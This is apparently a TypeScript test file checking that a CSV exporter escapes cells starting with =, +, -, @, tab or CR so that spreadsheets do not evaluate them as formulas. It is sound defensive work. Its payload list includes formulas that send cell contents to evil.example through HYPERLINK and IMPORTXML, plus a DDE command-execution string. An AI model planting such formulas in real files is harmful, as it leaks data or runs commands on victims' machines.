// CSV cells that a spreadsheet would run as a formula (=, +, -, @, tab, CR at the start) are written
// with a leading apostrophe; numbers stay numbers. Checked cell by cell and by reading the CSV back.
import { describe, expect, test } from 'vitest';
import { csvCell, csvLine } from '../../../src/export/csvFormat.ts';

/** RFC 4180 reader for one line (quoted fields may hold commas, quotes and line breaks). */
function readCsvLine(line: string): string[] {
  const fields: string[] = [];
  let field = '';
  let isQuoted = false;
  for (let i = 0; i < line.length; i++) {
    const c = line[i];
    if (isQuoted) {
      if (c === '"' && line[i + 1] === '"') {
        field += '"';
        i++;
      } else if (c === '"') isQuoted = false;
      else field += c;
    } else if (c === '"' && field === '') isQuoted = true;
    else if (c === ',') {
      fields.push(field);
      field = '';
    } else field += c;
  }
  fields.push(field);
  return fields;
}

const PAYLOADS = [
  '=1+1',
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-1+1',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  '=IMPORTXML(CONCAT("http://evil.example/?", A1), "//a")',
  '-',
  '+',
  '=',
  '@',
  '-2,5',
  '=1,"2"\n3',
];

describe('CSV cells and formula injection', () => {
  test.each(PAYLOADS)('the text %j is written so that no spreadsheet reads it as a formula', (payload) => {
    const cell = csvCell(payload);
    const [read] = readCsvLine(cell);
    expect(read).toBe(`'${payload}`);
    expect(read).not.toMatch(/^[=+\-@\t\r]/);
  });

  test('negative and positive numbers stay numbers', () => {
    expect(csvCell(-5)).toBe('-5');
    expect(csvCell(-0.25)).toBe('-0.25');
    expect(csvCell(1234)).toBe('1234');
    expect(csvCell(0)).toBe('0');
  });

  test('a string that looks like a negative number is text and is escaped', () => {
    expect(csvCell('-5')).toBe("'-5");
  });

  test('blanks, NaN and infinities are empty cells, never "NaN" or 0', () => {
    expect(csvCell(null)).toBe('');
    expect(csvCell(undefined)).toBe('');
    expect(csvCell(Number.NaN)).toBe('');
    expect(csvCell(Number.POSITIVE_INFINITY)).toBe('');
    expect(csvCell(Number.NEGATIVE_INFINITY)).toBe('');
  });

  test('commas, quotes and line breaks are quoted and read back unchanged', () => {
    const values = [
      'Bosnia and Herzegovina, Republika Srpska',
      'the "blue helmets"',
      'line one\nline two',
      'a\r\nb',
    ];
    expect(readCsvLine(csvLine(values))).toEqual(values);
  });

  test('ordinary text, including text with = or - inside, is left alone', () => {
    expect(csvCell('Bangladesh')).toBe('Bangladesh');
    expect(csvCell('Guinea-Bissau')).toBe('Guinea-Bissau');
    expect(csvCell('a=b')).toBe('a=b');
    expect(csvCell(' =1+1')).toBe(' =1+1');
  });

  test('a whole line of payloads reads back as the same number of text fields, none of them a formula', () => {
    const line = csvLine([...PAYLOADS, -3, 'BGD']);
    const fields = readCsvLine(line);
    expect(fields).toHaveLength(PAYLOADS.length + 2);
    for (const field of fields.slice(0, PAYLOADS.length)) expect(field).toMatch(/^'/);
    expect(fields.slice(-2)).toEqual(['-3', 'BGD']);
  });
});
